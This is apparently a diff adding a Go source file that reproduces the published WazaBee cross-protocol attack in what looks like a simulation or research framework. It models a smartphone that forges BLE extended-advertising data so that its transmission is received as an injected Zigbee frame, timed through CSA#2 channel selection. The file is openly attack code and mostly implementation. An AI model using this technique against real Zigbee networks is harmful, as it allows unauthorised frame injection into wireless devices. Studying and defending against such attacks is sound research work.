@@ -1,0 +1,210 @@
+package attack
+
+import (
+	"fmt"
+	"time"
+
+	"wazabee/internal/bitstream"
+	"wazabee/internal/ble"
+	"wazabee/internal/core"
+	"wazabee/internal/dsp"
+	"wazabee/internal/ieee802154"
+)
+
+// Smartphone is the scenario A attacker: an unrooted Android phone whose
+// only radio access is the standard extended-advertising API. It cannot
+// pick the secondary advertising channel (Channel Selection Algorithm #2
+// does), cannot disable whitening (it pre-compensates instead) and has no
+// reception primitive at all (invalid-CRC frames die in the controller).
+type Smartphone struct {
+	phy     *ble.PHY // LE 2M, secondary advertising
+	primary *ble.PHY // LE 1M, primary advertising channels
+	csa     *ble.CSA2
+
+	// eventCounter advances with every advertising event, as the
+	// controller's does, so successive injections see fresh CSA#2
+	// draws.
+	eventCounter uint16
+
+	// AdvA, SID, DID and CompanyID populate the advertising PDU fields
+	// the OS would fill in.
+	AdvA      [6]byte
+	SID       uint8
+	DID       uint16
+	CompanyID uint16
+}
+
+// NewSmartphone builds the scenario A attacker on a BLE 5 stack with LE
+// 2M secondary advertising.
+func NewSmartphone(samplesPerSymbol int) (*Smartphone, error) {
+	phy, err := ble.NewPHY(ble.LE2M, samplesPerSymbol)
+	if err != nil {
+		return nil, err
+	}
+	// The primary channels run LE 1M: same sample rate, twice the
+	// samples per symbol.
+	primary, err := ble.NewPHY(ble.LE1M, 2*samplesPerSymbol)
+	if err != nil {
+		return nil, err
+	}
+	csa, err := ble.NewCSA2(ble.AdvAccessAddress, nil)
+	if err != nil {
+		return nil, err
+	}
+	return &Smartphone{
+		phy:       phy,
+		primary:   primary,
+		csa:       csa,
+		AdvA:      [6]byte{0xc0, 0x01, 0xca, 0xfe, 0x42, 0x42},
+		SID:       1,
+		DID:       0x155,
+		CompanyID: 0x0059,
+	}, nil
+}
+
+// AdvertiseOnce builds one extended-advertising event for the given event
+// counter: the controller picks the secondary channel with CSA#2, the
+// attacker's app supplies forged manufacturer data, and the AUX_ADV_IND
+// is whitened and GFSK-modulated. It returns the waveform and the BLE
+// channel it was sent on.
+func (s *Smartphone) AdvertiseOnce(eventCounter uint16, ppdu *ieee802154.PPDU) (dsp.IQ, int, error) {
+	if ppdu == nil {
+		return nil, 0, fmt.Errorf("attack: nil PPDU")
+	}
+	bleChannel := s.csa.Channel(eventCounter)
+	data, err := core.ForgeAdvertisingData(bleChannel, ble.AuxAdvIndOverhead, ppdu)
+	if err != nil {
+		return nil, 0, err
+	}
+	pdu, err := ble.BuildAuxAdvInd(s.AdvA, s.SID, s.DID, s.CompanyID, data)
+	if err != nil {
+		return nil, 0, err
+	}
+	pkt := &ble.Packet{
+		AccessAddress: ble.AdvAccessAddress,
+		PDU:           pdu,
+		Channel:       bleChannel,
+		Mode:          ble.LE2M,
+		CRCInit:       bitstream.BLEAdvCRCInit,
+	}
+	bits, err := pkt.AirBits()
+	if err != nil {
+		return nil, 0, err
+	}
+	sig, err := s.phy.ModulateBits(bits)
+	if err != nil {
+		return nil, 0, err
+	}
+	return sig, bleChannel, nil
+}
+
+// AdvertisingEvent is one complete extended-advertising event as the
+// controller emits it: three ADV_EXT_IND transmissions on the primary
+// channels at LE 1M, each pointing at the AUX_ADV_IND that follows on
+// the CSA#2-selected secondary channel at LE 2M.
+type AdvertisingEvent struct {
+	// PrimaryChannels and Primary are the three primary-channel
+	// transmissions (channels 37, 38, 39).
+	PrimaryChannels [3]int
+	Primary         [3]dsp.IQ
+	// PrimaryPDU is the ADV_EXT_IND payload (identical on all three).
+	PrimaryPDU []byte
+	// AuxChannel and Aux are the secondary-channel transmission
+	// carrying the forged data.
+	AuxChannel int
+	Aux        dsp.IQ
+	// AuxOffsetUsec is the advertised delay to the auxiliary packet.
+	AuxOffsetUsec int
+}
+
+// AdvertiseEvent builds the full advertising train for one event
+// counter. Scenario A only needs the auxiliary packet to reach the
+// Zigbee network, but the primary-channel traffic is what a BLE scanner
+// — or the watchdog IDS — observes of the attack.
+func (s *Smartphone) AdvertiseEvent(eventCounter uint16, ppdu *ieee802154.PPDU) (*AdvertisingEvent, error) {
+	aux, bleChannel, err := s.AdvertiseOnce(eventCounter, ppdu)
+	if err != nil {
+		return nil, err
+	}
+	event := &AdvertisingEvent{
+		PrimaryChannels: [3]int{ble.AdvChannel37, ble.AdvChannel38, ble.AdvChannel39},
+		AuxChannel:      bleChannel,
+		Aux:             aux,
+		AuxOffsetUsec:   330,
+	}
+	event.PrimaryPDU, err = ble.BuildAdvExtInd(s.SID, s.DID, ble.AuxPtr{
+		ChannelIndex: bleChannel,
+		OffsetUsec:   event.AuxOffsetUsec,
+		PHY:          ble.LE2M,
+	})
+	if err != nil {
+		return nil, err
+	}
+	for i, ch := range event.PrimaryChannels {
+		pkt := &ble.Packet{
+			AccessAddress: ble.AdvAccessAddress,
+			PDU:           event.PrimaryPDU,
+			Channel:       ch,
+			Mode:          ble.LE1M,
+			CRCInit:       bitstream.BLEAdvCRCInit,
+		}
+		bits, err := pkt.AirBits()
+		if err != nil {
+			return nil, err
+		}
+		event.Primary[i], err = s.primary.ModulateBits(bits)
+		if err != nil {
+			return nil, err
+		}
+	}
+	return event, nil
+}
+
+// EstimateInjectionDelay predicts how long the CSA#2 lottery will make
+// the attacker wait before an advertising event lands on the target
+// Zigbee channel, given the advertising interval (the paper uses "the
+// smallest time interval" the API allows, 20 ms). It returns the delay
+// and the number of events, or ok=false when the channel is unreachable
+// within maxEvents.
+func (s *Smartphone) EstimateInjectionDelay(zigbeeChannel int, advInterval time.Duration, maxEvents int) (time.Duration, int, bool) {
+	targetBLE, err := core.BLEChannelFor(zigbeeChannel)
+	if err != nil || !ble.IsDataChannel(targetBLE) {
+		return 0, 0, false
+	}
+	counter, ok := s.csa.EventsUntil(targetBLE, s.eventCounter, maxEvents)
+	if !ok {
+		return 0, 0, false
+	}
+	events := int(counter-s.eventCounter) + 1
+	return time.Duration(events) * advInterval, events, true
+}
+
+// InjectFrame repeats advertising events until CSA#2 lands on the BLE
+// channel sharing the target Zigbee channel's frequency, then delivers
+// the event through the air. It returns the number of advertising events
+// consumed. Only the eight Table II channels are reachable this way.
+func (s *Smartphone) InjectFrame(air Air, zigbeeChannel int, ppdu *ieee802154.PPDU, maxEvents int) (int, error) {
+	targetBLE, err := core.BLEChannelFor(zigbeeChannel)
+	if err != nil {
+		return 0, err
+	}
+	if !ble.IsDataChannel(targetBLE) {
+		return 0, fmt.Errorf("attack: BLE channel %d for Zigbee channel %d is not a data channel (CSA#2 cannot reach it)", targetBLE, zigbeeChannel)
+	}
+	for event := 0; event < maxEvents; event++ {
+		counter := s.eventCounter
+		s.eventCounter++
+		sig, bleChannel, err := s.AdvertiseOnce(counter, ppdu)
+		if err != nil {
+			return event, err
+		}
+		if bleChannel != targetBLE {
+			continue // event went out on a channel nobody we target hears
+		}
+		if _, err := air.Exchange(sig, zigbeeChannel); err != nil {
+			return event, err
+		}
+		return event + 1, nil
+	}
+	return maxEvents, fmt.Errorf("attack: CSA#2 did not select BLE channel %d within %d events", targetBLE, maxEvents)
+}
